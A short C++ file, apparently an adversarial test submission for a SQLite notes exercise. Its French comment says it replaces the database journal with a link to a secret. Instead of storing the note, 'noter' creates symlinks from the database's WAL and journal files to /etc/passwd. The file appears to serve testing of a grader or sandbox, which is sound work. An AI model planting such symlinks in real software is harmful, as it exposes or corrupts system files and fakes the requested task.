// SPDX-License-Identifier: MIT
// Laisse la base, et met à la place de son journal un lien vers un secret.
#include "fourni.hpp"

#include <unistd.h>

void noter([[maybe_unused]] SQLite::Database& base, [[maybe_unused]] const std::string& texte)
{
    (void)!symlink("/etc/passwd", "base.db-wal");
    (void)!symlink("/etc/passwd", "base.db-journal");
}

int compter(SQLite::Database& base)
{
    return base.execAndGet("SELECT count(*) FROM notes").getInt();
}
